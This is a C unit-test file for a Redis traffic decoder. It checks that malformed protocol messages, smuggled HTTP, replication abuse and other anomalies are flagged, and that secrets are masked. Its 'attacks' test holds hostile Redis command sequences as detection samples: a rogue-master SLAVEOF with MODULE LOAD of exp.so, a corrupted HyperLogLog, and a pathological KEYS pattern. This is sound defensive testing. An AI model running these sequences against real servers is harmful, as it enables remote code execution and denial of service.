/* Redis: tables of damage. Each row continues a clean dialogue, must be flagged with its field and offset and nothing else,
 * and has a legal neighbour that stays silent. */
#include "redis_dialogues.h"

#define D(name) ANOMALY_REDIS_##name
#define F(name) FIELD_REDIS_##name
#define BYTES_64 "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
#define BYTES_256 BYTES_64 BYTES_64 BYTES_64 BYTES_64
#define KILOBYTE BYTES_256 BYTES_256 BYTES_256 BYTES_256

static const struct damage rows[] = {
    {"count without digits", "strings", 2, FROM_CLIENT, D(COUNT), F(NUMBER), 1, "*\r\n", "*0\r\n"},
    {"count with a letter", "strings", 2, FROM_CLIENT, D(COUNT), F(NUMBER), 1, "*1x\r\n$4\r\nPING\r\n", PING},
    {"count with a plus", "strings", 2, FROM_CLIENT, D(COUNT), F(NUMBER), 1, "*+1\r\n$4\r\nPING\r\n", PING},
    {"count with a zero before it", "strings", 2, FROM_CLIENT, D(COUNT), F(NUMBER), 1, "*01\r\n$4\r\nPING\r\n", PING},
    {"count that is a minus", "strings", 2, FROM_CLIENT, D(COUNT), F(NUMBER), 1, "*-\r\n", "*-1\r\n"},
    {"count minus zero", "strings", 2, FROM_CLIENT, D(COUNT), F(NUMBER), 1, "*-0\r\n", "*-2147483649\r\n"},
    {"count above INT_MAX", "strings", 2, FROM_CLIENT, D(COUNT), F(NUMBER), 1, "*2147483648\r\n", NULL},
    {"count of 2^64", "strings", 2, FROM_CLIENT, D(COUNT), F(NUMBER), 1, "*18446744073709551616\r\n", NULL},
    {"count line without an end", "strings", 2, FROM_CLIENT, D(COUNT), F(NUMBER), 1, "*1234567890123456789012345678901234567890", NULL},
    {"count with a line feed alone", "strings", 2, FROM_CLIENT, D(COUNT), F(NUMBER), 1, "*1\n$4\r\nPING\r\n", PING},
    {"count above a million", "strings", 2, FROM_CLIENT, D(COUNT_LARGE), F(COUNT), 1, "*1048577\r\n$4\r\nMSET\r\n" "$1\r\na\r\n$1\r\na\r\n"
     "$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n"
     "$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n"
     "$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n", "*1048576\r\n$4\r\nMSET\r\n"},
    {"a string where a length belongs", "strings", 2, FROM_CLIENT, D(STRING_EXPECTED), F(TYPE), 4, "*1\r\nPING\r\n", PING},
    {"a count where a length belongs", "strings", 2, FROM_CLIENT, D(STRING_EXPECTED), F(TYPE), 14, "*2\r\n$4\r\nPING\r\n*1\r\n$4\r\nPING\r\n",
     "*2\r\n$4\r\nPING\r\n$1\r\nx\r\n"},
    {"length too small", "strings", 2, FROM_CLIENT, D(STRING_EXPECTED), F(TYPE), 13, "*2\r\n$3\r\nECHO\r\n$1\r\nx\r\n", "*2\r\n$4\r\nECHO\r\n$1\r\nx\r\n"},
    {"negative length", "strings", 2, FROM_CLIENT, D(LENGTH), F(NUMBER), 5, "*1\r\n$-1\r\n", "*1\r\n$0\r\n\r\n"},
    {"length with a zero before it", "strings", 2, FROM_CLIENT, D(LENGTH), F(NUMBER), 5, "*1\r\n$04\r\nPING\r\n", PING},
    {"length without digits", "strings", 2, FROM_CLIENT, D(LENGTH), F(NUMBER), 5, "*1\r\n$\r\nPING\r\n", PING},
    {"length with a blank", "strings", 2, FROM_CLIENT, D(LENGTH), F(NUMBER), 5, "*1\r\n$4 \r\nPING\r\n", PING},
    {"length of 512 MB and one", "strings", 2, FROM_CLIENT, D(LENGTH_LARGE), F(LENGTH), 5, "*1\r\n$536870913\r\n", "*1\r\n$4\r\nPING\r\n"},
    {"length of 512 MB, no more of it here", "strings", 2, FROM_CLIENT, D(STRING_EXPECTED), F(TYPE), 4, "*1\r\n#536870912\r\n", "*1\r\n$536870912\r\n"},
    {"length near 2^63", "strings", 2, FROM_CLIENT, D(LENGTH_LARGE), F(LENGTH), 5, "*1\r\n$9223372036854775807\r\n", NULL},
    {"quotes open", "strings", 2, FROM_CLIENT, D(QUOTES), F(INLINE), 0, "SET a \"b\r\n", "SET a \"b\"\r\n"},
    {"single quotes open", "strings", 2, FROM_CLIENT, D(QUOTES), F(INLINE), 0, "SET a 'b\\'\r\n", "SET a 'b\\''\r\n"},
    {"letters behind a quote", "strings", 2, FROM_CLIENT, D(QUOTES), F(INLINE), 0, "SET a \"b\"c\r\n", "SET a \"b\" c\r\n"},
    {"escaped end", "strings", 2, FROM_CLIENT, D(QUOTES), F(INLINE), 0, "SET a \"b\\\"\r\n", "SET a \"b\\\\\"\r\n"},
    {"no line feed behind a count", "strings", 2, FROM_CLIENT, D(LINE_END), F(LINE_END), 3, "*1\rx$4\r\nPING\r\n", PING},
    {"no line feed behind a length", "strings", 2, FROM_CLIENT, D(LINE_END), F(LINE_END), 7, "*1\r\n$4\rxPING\r\n", PING},
    {"other bytes behind an argument", "strings", 2, FROM_CLIENT, D(STRING_END), F(LINE_END), 12, "*1\r\n$4\r\nPINGxx", PING},
    {"POST", "strings", 2, FROM_CLIENT, D(CROSS_PROTOCOL), F(COMMAND), 0, "POST /\r\n", "POSTS /\r\n"},
    {"Host:", "strings", 2, FROM_CLIENT, D(CROSS_PROTOCOL), F(COMMAND), 0, "Host: db\r\n", "Host db\r\n"},
    {"post as an argument", "strings", 2, FROM_CLIENT, D(CROSS_PROTOCOL), F(COMMAND), 8, "*1\r\n$4\r\npost\r\n", "*2\r\n$4\r\nECHO\r\n$4\r\nPOST\r\n"},
    {"GET of HTTP", "strings", 2, FROM_CLIENT, D(HTTP), F(INLINE), 0, "GET / HTTP/1.1\r\n", "GET HTTP/1.1\r\n"},
    {"empty line, then an array", "strings", 2, FROM_CLIENT, D(EMPTY_THEN_OTHER), F(COUNT), 0, "\r\n" PING, "\r\nPING\r\n"},
    {"empty array, then a line", "strings", 2, FROM_CLIENT, D(EMPTY_THEN_OTHER), F(COUNT), 0, "*0\r\nPING\r\n", "*0\r\n" PING},
    {"more after QUIT", "strings", 15, FROM_CLIENT, D(AFTER_QUIT), FIELD_DB_LENGTH, 0, PING, NULL},
    {"11 arguments before the login", "login", 2, FROM_CLIENT, D(UNAUTHENTICATED_COUNT), F(COUNT), 1,
     "*11\r\n$4\r\nMGET\r\n$1\r\na\r\n$1\r\nb\r\n$1\r\nc\r\n$1\r\nd\r\n$1\r\ne\r\n$1\r\nf\r\n$1\r\ng\r\n$1\r\nh\r\n$1\r\ni\r\n$1\r\nj\r\n",
     "*10\r\n$4\r\nMGET\r\n$1\r\na\r\n$1\r\nb\r\n$1\r\nc\r\n$1\r\nd\r\n$1\r\ne\r\n$1\r\nf\r\n$1\r\ng\r\n$1\r\nh\r\n$1\r\ni\r\n"},
    {"16385 bytes before the login", "login", 4, FROM_CLIENT, D(UNAUTHENTICATED_LENGTH), F(LENGTH), 15, "*2\r\n$4\r\nECHO\r\n$16385\r\n" KILOBYTE, "*2\r\n$4\r\nECHO\r\n$16384\r\n" KILOBYTE},
    {"the server rejects", "strings", 1, FROM_SERVER, D(REJECTED), F(ERROR), 1, "-ERR Protocol error: invalid bulk length\r\n",
     "-ERR syntax error\r\n"},
    {"no type", "strings", 1, FROM_SERVER, D(REPLY_TYPE), F(TYPE), 0, "OK\r\n", "+OK\r\n"},
    {"a second reply without a type", "strings", 5, FROM_SERVER, D(REPLY_TYPE), F(TYPE), 0, ":1\r\nx\r\n", ":1\r\n:2\r\n"},
    {"reply of length -2", "strings", 1, FROM_SERVER, D(REPLY_LENGTH), F(NUMBER), 1, "$-2\r\n", "$-1\r\n"},
    {"reply of a length with letters", "strings", 1, FROM_SERVER, D(REPLY_LENGTH), F(NUMBER), 1, "$5x\r\nhello\r\n", "$5\r\nhello\r\n"},
    {"reply of count -2", "strings", 1, FROM_SERVER, D(REPLY_COUNT), F(NUMBER), 1, "*-2\r\n", "*-1\r\n"},
    {"reply of 2^32 values", "strings", 1, FROM_SERVER, D(REPLY_COUNT), F(NUMBER), 1, "*4294967296\r\n", "*4294967295\r\n+a\r\n"},
    {"reply of 2^60 values", "strings", 1, FROM_SERVER, D(REPLY_COUNT), F(NUMBER), 1, "*1152921504606846976\r\n", "*0\r\n"},
    {"carriage return alone", "strings", 1, FROM_SERVER, D(REPLY_LINE), F(LINE_END), 4, "+OK\rX\r\n", "+OKX\r\n"},
    {"line feed alone", "strings", 1, FROM_SERVER, D(REPLY_LINE), F(LINE), 3, "+OK\n+OK\r\n", "+OK +OK\r\n"},
    {"integer with letters", "strings", 1, FROM_SERVER, D(REPLY_NUMBER), F(LINE), 1, ":12a\r\n", ":-12\r\n"},
    {"empty integer", "strings", 1, FROM_SERVER, D(REPLY_NUMBER), F(LINE), 1, ":\r\n", ":0\r\n"},
    {"integer of 20 digits", "strings", 1, FROM_SERVER, D(REPLY_NUMBER), F(LINE), 1, ":99999999999999999999\r\n", ":9223372036854775807\r\n"},
    {"string that is longer", "strings", 1, FROM_SERVER, D(REPLY_STRING_END), F(LINE_END), 9, "$5\r\nhello!\r", "$5\r\nhello\r\n"},
    {"a reply too many", "strings", 2, FROM_SERVER, D(UNREQUESTED_REPLY), F(TYPE), 0, "+OK\r\n", "-ERR idle\r\n"},
    {"RESP3 without HELLO", "strings", 1, FROM_SERVER, D(RESP3_TYPE), F(TYPE), 0, "_\r\n", "$-1\r\n"},
    {"boolean that is neither", "resp3", 3, FROM_SERVER, D(REPLY_NUMBER), F(LINE), 1, "#x\r\n", "#f\r\n"},
    {"null with text", "resp3", 3, FROM_SERVER, D(REPLY_NUMBER), F(LINE), 1, "_x\r\n", "_\r\n"},
    {"double with letters", "resp3", 3, FROM_SERVER, D(REPLY_NUMBER), F(LINE), 1, ",1.2.3\r\n", ",1.23\r\n"},
    {"big number with a point", "resp3", 3, FROM_SERVER, D(REPLY_NUMBER), F(LINE), 1, "(12.5\r\n", "(-125\r\n"},
    {"verbatim without its format", "resp3", 3, FROM_SERVER, D(VERBATIM), F(VALUE), 4, "=4\r\ntext\r\n", "=5\r\ntxt:a\r\n"},
    {"chunk of nothing", "resp3", 3, FROM_SERVER, D(STREAMED), F(TYPE), 0, ";1\r\na\r\n", "$?\r\n;1\r\na\r\n;0\r\n"},
    {"end of nothing", "resp3", 3, FROM_SERVER, D(STREAMED), F(TYPE), 0, ".\r\n", "*?\r\n.\r\n"},
    {"a value among chunks", "resp3", 3, FROM_SERVER, D(STREAMED), F(TYPE), 0, "$?\r\n+a\r\n", "$?\r\n;0\r\n"},
    {"17 levels", "resp3", 3, FROM_SERVER, D(NESTING), F(COUNT), 64,
     "*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n:1\r\n",
     "*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n:1\r\n"},
    {"a copy that is a library", "diskless", 2, FROM_SERVER, D(RDB_CONTENT), F(RDB), 0, "\x7f" "ELF library", "REDIS0011 data"},
    {"a copy of another version", "diskless", 2, FROM_SERVER, D(RDB_CONTENT), F(RDB), 0, "REDIS00x0 data", "REDIS9999 data"},
    {"a mark that is short", "diskless", 1, FROM_SERVER, D(RDB_HEADER), F(LENGTH), 1,
     "+FULLRESYNC 0123456789012345678901234567890123456789 0\r\n$EOF:0123\r\n", "+CONTINUE\r\n"},
    {"a master that speaks inline", "replica", 6, FROM_SERVER, D(MASTER_INLINE), F(INLINE), 0, "PING\r\n", "\n" PING},
    {"a master that miscounts", "replica", 6, FROM_SERVER, D(STRING_EXPECTED), F(TYPE), 4, "*1\r\n+OK\r\n", PING},
};

static void damage_is_found(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++)
        damage_expect(&spoken, &rows[i], view_text(rows[i].bad), rows[i].good ? view_text(rows[i].good) : view_of(NULL, 0));
}

static void nul_in_lines(void **state)
{
    (void)state;
    static const struct {
        const char *bytes;
        size_t length;
        uint32_t offset;
        bool bad;
    } lines[] = {
        {"PI\0NG\r\n", 7, 2, true}, {"*1\0\r\n", 5, 1, true}, {"*1\r\n$4\0\r\n", 9, 5, true}, {"\x03\x00\x00\x13", 4, 1, true},
        {"*1\r\n$4\r\nPI\0G\r\n", 14, 0, false}, {"PING\r\n", 6, 0, false},
    };
    for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
        struct talk *t = talk_open(&redis_decoder);
        talk(t, FROM_CLIENT, view_of(lines[i].bytes, lines[i].length));
        const struct report *found = talk_find(t, ANOMALY_REDIS_NUL_IN_LINE);
        assert_int_equal(found != NULL, lines[i].bad);
        if (found)
            assert_int_equal(found->offset, lines[i].offset);
        talk_close(t);
    }
    struct talk *t = talk_open(&redis_decoder);
    talk(t, FROM_CLIENT, view_text(PING));
    talk(t, FROM_SERVER, view_of("-ERR a\0b\r\n", 10));
    assert_non_null(talk_find(t, ANOMALY_REDIS_REPLY_LINE));
    talk_close(t);
}

static void the_end_of_a_connection(void **state)
{
    (void)state;
    static const struct {
        const char *name, *request, *reply;
        enum side from;
        enum anomaly anomaly;
    } ends[] = {
        {"a reply is owed", PING, "", FROM_SERVER, ANOMALY_REDIS_CLOSED},
        {"none is", PING, "+PONG\r\n", FROM_SERVER, ANOMALY_NONE},
        {"after QUIT", "QUIT\r\n", "", FROM_SERVER, ANOMALY_NONE},
        {"after SHUTDOWN", "SHUTDOWN\r\n", "", FROM_SERVER, ANOMALY_NONE},
        {"while it blocks", "BLPOP q 0\r\n", "", FROM_SERVER, ANOMALY_NONE},
        {"no reply was wanted", "CLIENT REPLY OFF\r\n" PING, "", FROM_SERVER, ANOMALY_NONE},
        {"it says why", PING, "-ERR max number of clients reached\r\n", FROM_SERVER, ANOMALY_NONE},
        {"in the middle of a request", "*40\r\n" "$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n"
         "$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n"
         "$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n$1\r\na\r\n",
         "", FROM_CLIENT, ANOMALY_REDIS_INCOMPLETE},
        {"between requests", PING, "", FROM_CLIENT, ANOMALY_NONE},
    };
    for (size_t i = 0; i < sizeof ends / sizeof ends[0]; i++) {
        struct talk *t = talk_open(&redis_decoder);
        talk(t, FROM_CLIENT, view_text(ends[i].request));
        talk(t, FROM_SERVER, view_text(ends[i].reply));
        talk_clear_findings(t, 0);
        redis_decoder.end(t->state, ends[i].from, false, &t->findings);
        unsigned wanted = ends[i].anomaly != ANOMALY_NONE;
        if (t->findings.reports_used != wanted || (wanted && t->findings.reports[0].anomaly != ends[i].anomaly))
            fail_msg("%s", ends[i].name);
        talk_close(t);
    }
}

static bool is_hidden(const struct talk *t, uint32_t offset, uint32_t length)
{
    for (unsigned i = 0; i < t->findings.fields_used; i++) {
        const struct field_value *f = &t->findings.fields[i];
        if (field_is_secret((enum field)f->field) && f->offset <= offset && f->offset + f->length >= offset + length)
            return true;
    }
    return false;
}

static void secrets_are_marked(void **state)
{
    (void)state;
    static const char *const requests[] = {
        "*2\r\n$4\r\nAUTH\r\n$6\r\nsecret\r\n", "*3\r\n$4\r\nauth\r\n$1\r\nu\r\n$6\r\nsecret\r\n", "AUTH secret\r\n", "auth u \"secret\" \r\n",
        "*5\r\n$5\r\nHELLO\r\n$1\r\n3\r\n$4\r\nAUTH\r\n$1\r\nu\r\n$6\r\nsecret\r\n", "hello 3 setname me auth u secret\r\n",
        "config set requirepass secret\r\n", "CONFIG SET maxmemory 1 masterauth secret\r\n", "ACL SETUSER u on >secret\r\n",
        "MIGRATE h 1 k 0 10 AUTH secret\r\n", "MIGRATE h 1 k 0 10 REPLACE AUTH2 u secret\r\n", "SENTINEL SET m auth-pass secret\r\n", "AUTH \"secret\r\n",
    };
    for (size_t i = 0; i < sizeof requests / sizeof requests[0]; i++) {
        struct talk *t = talk_open(&redis_decoder);
        talk(t, FROM_CLIENT, view_text(requests[i]));
        if (!is_hidden(t, (uint32_t)(strstr(requests[i], "secret") - requests[i]), 6))
            fail_msg("%s", requests[i]);
        talk_close(t);
    }
    struct talk *t = talk_open(&redis_decoder);
    talk(t, FROM_CLIENT, view_text("CONFIG GET *pass\r\n"));
    talk(t, FROM_SERVER, view_text("*2\r\n$11\r\nrequirepass\r\n$6\r\nsecret\r\n"));
    assert_true(is_hidden(t, 26, 6));
    talk_close(t);
}

static void logins_and_versions(void **state)
{
    (void)state;
    struct talk *t = talk_open(&redis_decoder);
    say(t, dialogue_named(&spoken, "login"), 1);
    assert_int_equal(t->session.phase, PHASE_PRE_AUTH);
    say(t, &(struct dialogue){"", login_lines + 1, 3, false, 0}, 3);
    assert_int_equal(t->facts.seen[FACT_LOGIN], 1);
    assert_int_equal(t->facts.seen[FACT_LOGIN_FAILED], 1);
    assert_int_equal(t->session.phase, PHASE_PRE_AUTH);
    say(t, &(struct dialogue){"", login_lines + 4, 2, false, 0}, 2);
    assert_int_equal(t->facts.seen[FACT_LOGIN_OK], 1);
    assert_int_equal(t->session.phase, PHASE_AUTHENTICATED);
    assert_memory_equal(t->session.user, "ann", 3);
    talk_close(t);
    t = talk_open(&redis_decoder);
    say(t, dialogue_named(&spoken, "resp3"), 2);
    assert_int_equal(t->facts.seen[FACT_LOGIN_OK], 1);
    assert_int_equal(t->facts.seen[FACT_SERVER_HELLO], 1);
    for (unsigned i = 0; i < t->findings.facts_used; i++)
        if (t->findings.facts[i].kind == FACT_SERVER_HELLO) {
            assert_int_equal(t->findings.facts[i].number, 9);
            assert_true(view_equal(t->findings.facts[i].text, view_text("7.0.15")));
        }
    talk_close(t);
    t = talk_open(&redis_decoder);
    say(t, dialogue_named(&spoken, "strings"), 14);
    assert_int_equal(t->facts.seen[FACT_SERVER_HELLO], 2);
    assert_int_equal(t->facts.seen[FACT_REQUEST], t->facts.seen[FACT_REPLY]);
    assert_int_equal(t->facts.seen[FACT_ERROR], 1);
    talk_close(t);
}

static void attacks(void **state)
{
    (void)state;
    static const struct {
        const char *requests;
        enum anomaly anomaly;
    } stories[] = {
        {"SLAVEOF 10.0.0.9 6379\r\nCONFIG SET dbfilename exp.so\r\nMODULE LOAD ./exp.so\r\n", ANOMALY_REDIS_REPLICATION_ABUSE},
        {"REPLICAOF NO ONE\r\nCONFIG SET dir /tmp\r\nEVAL x 0\r\n", ANOMALY_NONE},
        {"SET k HYLLabc\r\nPFCOUNT k\r\n", ANOMALY_REDIS_HYPERLOGLOG},
        {"SET k HYLLabc\r\nPFCOUNT other\r\n", ANOMALY_NONE},
        {"KEYS *a*b*c*d*e*f*g*h*i*j*k*l*m*n*o*p*q*r*s*t*u*v*w*x*y*z*a*b*c*d*e*f*g\r\n", ANOMALY_REDIS_PATTERN},
        {"SCAN 0 MATCH user:*:name\r\n", ANOMALY_NONE},
    };
    for (size_t i = 0; i < sizeof stories / sizeof stories[0]; i++) {
        struct talk *t = talk_open(&redis_decoder);
        talk(t, FROM_CLIENT, view_text(stories[i].requests));
        if (stories[i].anomaly == ANOMALY_NONE)
            talk_expect_silence(t);
        else if (!talk_find(t, stories[i].anomaly))
            fail_msg("%s", stories[i].requests);
        talk_close(t);
    }
    struct talk *t = talk_open(&redis_decoder);
    say(t, dialogue_named(&spoken, "login"), 2);
    for (unsigned i = 0; i < 4096; i++)
        talk(t, FROM_CLIENT, view_text(PING));
    talk_expect_silence(t);
    talk(t, FROM_CLIENT, view_text(PING));
    assert_non_null(talk_find(t, ANOMALY_REDIS_UNREAD_REPLIES));
    talk_close(t);
}

static void tls_and_its_absence(void **state)
{
    (void)state;
    static const uint8_t hello[] = {0x16, 3, 1, 0, 4, 1, 2, 3, 4};
    struct talk *t = talk_open(&redis_decoder);
    talk(t, FROM_CLIENT, view_of(hello, sizeof hello));
    talk(t, FROM_SERVER, view_of(hello, sizeof hello));
    assert_int_equal(t->verdict, VERDICT_TLS);
    assert_int_equal(t->facts.seen[FACT_TLS], 1);
    talk_expect_silence(t);
    talk_close(t);
    t = talk_open(&redis_decoder);
    talk(t, FROM_CLIENT, view_of(hello, sizeof hello));
    talk_clear_findings(t, 0);
    redis_decoder.end(t->state, FROM_CLIENT, false, &t->findings);
    assert_int_equal(t->findings.reports[0].anomaly, ANOMALY_REDIS_TLS_UNANSWERED);
    talk_close(t);
}

/* A ping of a cluster node, with `count` entries, and one thing changed. */
static void the_cluster_bus(void **state)
{
    (void)state;
    static const struct {
        const char *name;
        uint32_t total, version, type, count;
        enum anomaly anomaly;
    } messages[] = {
        {"ping", 2256 + 3 * 104, 1, 0, 3, ANOMALY_NONE},
        {"fail", 2256 + 40, 1, 3, 0, ANOMALY_NONE},
        {"count too large", 2256 + 3 * 104, 1, 0, 4, ANOMALY_REDIS_BUS_LENGTH},
        {"count too small", 2256 + 3 * 104, 1, 0, 2, ANOMALY_REDIS_BUS_LENGTH},
        {"fail without a name", 2256, 1, 3, 0, ANOMALY_REDIS_BUS_LENGTH},
        {"shorter than its header", 2255, 1, 5, 0, ANOMALY_REDIS_BUS_LENGTH},
        {"version", 2256, 0, 5, 0, ANOMALY_REDIS_BUS_VERSION},
        {"type", 2256, 1, 11, 0, ANOMALY_REDIS_BUS_TYPE},
    };
    for (size_t i = 0; i < sizeof messages / sizeof messages[0]; i++) {
        uint8_t *bytes = calloc(1, messages[i].total);
        memcpy(bytes, "RCmb", 4);
        bytes[6] = (uint8_t)(messages[i].total >> 8), bytes[7] = (uint8_t)messages[i].total;
        bytes[9] = (uint8_t)messages[i].version, bytes[13] = (uint8_t)messages[i].type, bytes[15] = (uint8_t)messages[i].count;
        struct talk *t = talk_open(&redis_decoder);
        talk(t, FROM_CLIENT, view_of(bytes, messages[i].total));
        if (messages[i].anomaly == ANOMALY_NONE)
            talk_expect_silence(t);
        else if (t->reports_used != 1 || t->reports[0].anomaly != messages[i].anomaly)
            fail_msg("%s", messages[i].name);
        talk_forget(t);
        talk(t, FROM_CLIENT, view_text("RCmxxxxxxxxxxxxx"));
        assert_non_null(talk_find(t, ANOMALY_REDIS_BUS_SIGNATURE));
        talk_close(t);
        free(bytes);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(damage_is_found),    cmocka_unit_test(nul_in_lines), cmocka_unit_test(the_end_of_a_connection),
        cmocka_unit_test(secrets_are_marked), cmocka_unit_test(logins_and_versions), cmocka_unit_test(attacks),
        cmocka_unit_test(tls_and_its_absence), cmocka_unit_test(the_cluster_bus),
    };
    return cmocka_run_group_tests_name("redis damage", tests, NULL, NULL);
}
